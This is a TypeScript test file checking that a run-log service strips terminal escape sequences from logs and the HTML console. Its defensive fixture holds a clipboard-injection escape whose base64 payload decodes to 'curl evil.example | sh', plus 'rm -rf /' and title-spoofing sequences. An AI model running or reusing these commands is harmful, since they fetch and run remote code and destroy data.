import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { planRun } from '../../src/core/run-plan.js';
import { bearerFor } from '../support/functions.js';
import { HTTP_TRIGGER, testSchema } from '../support/schemas.js';
import type { SecuredApp } from '../support/secured-app.js';
import { startSecuredApp } from '../support/secured-app.js';
import type { TestStorage } from '../support/storage.js';
import { createTestStorage } from '../support/storage.js';

const ESC = '\x1b';
/** What a runbook echoing hostile alert text writes: a clipboard write, a new title, a screen clear, colours. */
const HOSTILE = `checking ${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07disk\n${ESC}]0;all good${ESC}\\${ESC}[2J${ESC}[31mFAILED${ESC}[0m\nrm -rf /\rok\n`;

/** A log read as text carries no escape sequence a terminal would obey, but its colours. */
describe('terminal escapes in run logs', () => {
  let t: TestStorage;
  let app: SecuredApp;
  let viewer: string;
  let execId: string;

  beforeAll(async () => {
    t = await createTestStorage();
    app = await startSecuredApp(t);
    viewer = await bearerFor(t, 'viewer');
    const { execution } = planRun(testSchema({ id: 'echo' }), HTTP_TRIGGER);
    await t.storage.executions.create({ ...execution, status: 'failed', logBytes: Buffer.byteLength(HOSTILE) });
    await t.storage.logs.create(execution.execId);
    await t.storage.logs.append(execution.execId, Buffer.from(HOSTILE));
    execId = execution.execId;
  });
  afterAll(async () => {
    await app.close();
    await t.cleanup();
  });

  const get = (path: string) => app.fetch(path, { headers: { authorization: viewer } });

  it('serves the log with only its colours by default', async () => {
    const text = await (await get(`/api/executions/${execId}/log`)).text();
    expect(text).toBe(`checking disk\n${ESC}[31mFAILED${ESC}[0m\nrm -rf /ok\n`);
  });

  it('serves the exact bytes with ?raw=1', async () => {
    const res = await get(`/api/executions/${execId}/log?raw=1`);
    expect(Buffer.from(await res.arrayBuffer()).equals(Buffer.from(HOSTILE))).toBe(true);
  });

  it('shows colours in the console as classes, and no control character', async () => {
    const page = await (await get(`/api/logs/${execId}`)).text();
    expect(page).toContain('<span class="ansi-fg-1">FAILED</span>');
    // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters
    expect(page).not.toMatch(/[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]/);
  });
});
